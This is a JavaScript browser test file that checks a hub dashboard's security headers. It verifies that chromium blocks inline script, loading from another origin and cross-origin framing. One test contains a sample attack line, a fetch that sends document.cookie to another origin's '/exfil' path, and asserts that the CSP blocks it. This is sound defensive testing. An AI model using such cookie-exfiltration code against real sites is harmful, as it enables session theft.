// The dashboard's pages carry the hub's security headers (CSP, nosniff, DENY framing, no
// referrer), chromium enforces the CSP (no inline script, no script or connection to another
// origin), and a page of another origin cannot frame the dashboard.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { launch, newPage, hubUrl, shot } from '../lib/browser.mjs';
import { api, waitFor } from '../lib/ctl.mjs';
import { otherSite } from './lib/common.mjs';

const HUB = hubUrl('').replace(/\/$/, '');
const CSP_MUST = ["default-src 'none'", "script-src 'self'", "style-src 'self'", "connect-src 'self'",
  "form-action 'self'", "frame-ancestors 'none'", "base-uri 'none'"];

let browser, page, site;

before(async () => {
  site = await otherSite({
    '/frame': `<!doctype html><title>framing</title><iframe id="f" src="${HUB}/ui/" width="800" height="600"></iframe>`,
    '/x.js': 'window.__fromOtherSite = 1;',
  });
  browser = await launch();
  page = await newPage(browser);
});

after(async () => {
  await browser?.close();
  await site?.close();
});

function commonHeaders(h, what) {
  assert.equal(h['x-content-type-options'], 'nosniff', `${what}: X-Content-Type-Options`);
  assert.equal(String(h['x-frame-options']).toUpperCase(), 'DENY', `${what}: X-Frame-Options`);
  assert.equal(h['referrer-policy'], 'no-referrer', `${what}: Referrer-Policy`);
  assert.equal(h['access-control-allow-origin'], undefined, `${what}: no CORS`);
  assert.equal(h['access-control-allow-credentials'], undefined, `${what}: no CORS`);
}

test('every page of the dashboard carries CSP, nosniff, DENY and no-referrer', async () => {
  const index = await api('GET', '/ui/', { token: '' });
  assert.equal(index.status, 200);
  // Every file the index names, plus what they import (one level is enough to see them all
  // carry the headers: the hub sets them in one place).
  const files = new Set(['/ui/', '/ui/index.html']);
  for (const m of index.text.matchAll(/(?:src|href)="([^"]+)"/g)) files.add(new URL(m[1], HUB + '/ui/').pathname);
  for (const f of [...files]) {
    if (!f.endsWith('.js')) continue;
    const r = await api('GET', f, { token: '' });
    for (const m of r.text.matchAll(/from '\.\/([^']+)'/g)) files.add(`/ui/${m[1]}`);
  }
  assert.ok(files.size >= 4, `files: ${[...files]}`);
  for (const f of files) {
    const r = await api('GET', f, { token: '' });
    assert.equal(r.status, 200, `${f}: ${r.status}`);
    commonHeaders(r.headers, f);
    const csp = r.headers['content-security-policy'] || '';
    for (const d of CSP_MUST) assert.ok(csp.includes(d), `${f}: CSP lacks ${d}: ${csp}`);
    assert.ok(!/unsafe-(inline|eval)/.test(csp), `${f}: CSP allows unsafe-*: ${csp}`);
    if (f.endsWith('.js')) assert.match(r.headers['content-type'], /^(text|application)\/javascript/, f);
    if (f.endsWith('.css')) assert.match(r.headers['content-type'], /^text\/css/, f);
  }
  console.log(`# ${files.size} files checked`);
  // API answers and errors carry the common ones too.
  for (const [p, token] of [['/api/v1/nodes', undefined], ['/api/v1/nodes', ''], ['/ui/no-such-file.js', '']]) {
    const r = await api('GET', p, { token });
    commonHeaders(r.headers, `${p} (${r.status})`);
  }
  const redirect = await api('GET', '/', { token: '' });
  assert.equal(redirect.status, 302);
  assert.equal(redirect.headers.location, '/ui/');
});

test('chromium enforces the CSP on the dashboard: no inline script, nothing from or to another origin', async () => {
  const violations = [];
  await page.exposeFunction('__cspViolation', (v) => violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => window.__cspViolation(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const resp = await page.goto(hubUrl('/ui/'));
  assert.ok(resp.headers()['content-security-policy'], 'the page came with its CSP');
  const got = await page.evaluate(async ({ other }) => {
    const inline = document.createElement('script');
    inline.textContent = 'window.__inline = 1;';
    document.body.append(inline);
    const ext = document.createElement('script');
    ext.src = other + '/x.js';
    const extDone = new Promise((r) => { ext.onload = () => r('loaded'); ext.onerror = () => r('blocked'); });
    document.body.append(ext);
    let conn;
    try {
      await fetch(other + '/exfil?' + encodeURIComponent(document.cookie), { mode: 'no-cors' });
      conn = 'sent';
    } catch (e) {
      conn = `blocked (${e.name})`;
    }
    const styled = document.createElement('div');
    styled.setAttribute('style', 'color: rgb(1, 2, 3)');
    document.body.append(styled);
    return {
      inline: window.__inline ?? null,
      ext: await extDone,
      fromOther: window.__fromOtherSite ?? null,
      conn,
      style: getComputedStyle(styled).color,
    };
  }, { other: site.origin });
  console.log(`# ${JSON.stringify(got)}`);
  assert.equal(got.inline, null, 'an inline script ran');
  assert.equal(got.ext, 'blocked');
  assert.equal(got.fromOther, null);
  assert.match(got.conn, /^blocked/);
  assert.notEqual(got.style, 'rgb(1, 2, 3)', 'an inline style attribute applied');
  assert.ok(!site.requests.some((r) => r.url.startsWith('/x.js') || r.url.startsWith('/exfil')),
    `the other site was reached: ${JSON.stringify(site.requests)}`);
  await waitFor('the CSP violation reports', 5, () => violations.length >= 3);
  console.log(`# violations: ${violations.join('; ')}`);
});

test('a page of another origin cannot frame the dashboard', async () => {
  const tab = await newPage(browser);
  try {
    const framed = [];
    tab.on('response', (r) => { if (r.url().startsWith(HUB + '/ui/')) framed.push(r); });
    await tab.goto(site.url('/frame'));
    await waitFor('the hub to answer the frame', 10, () => framed.length > 0);
    const h = framed[0].headers();
    assert.equal(String(h['x-frame-options']).toUpperCase(), 'DENY');
    assert.match(h['content-security-policy'], /frame-ancestors 'none'/);
    // Blocked: the frame holds chromium's error page, not the dashboard's document.
    await new Promise((r) => setTimeout(r, 1000));
    const frames = tab.frames().filter((f) => f !== tab.mainFrame());
    assert.equal(frames.length, 1);
    const f = frames[0];
    const inside = await f.evaluate(() => ({ url: location.href, inputs: document.querySelectorAll('input').length,
      scripts: [...document.scripts].map((s) => s.src) })).catch((e) => ({ error: e.message }));
    console.log(`# the frame: ${f.url()} ${JSON.stringify(inside)}`);
    assert.ok(!f.url().startsWith(HUB) || inside.error || inside.url?.startsWith('chrome-error:'), `the frame shows ${f.url()}`);
    assert.ok(!(inside.inputs > 0) && !(inside.scripts || []).some((s) => s.startsWith(HUB)), 'the dashboard rendered in the frame');
    await shot(tab, 'framing-blocked');
  } finally {
    await tab.close();
  }
});
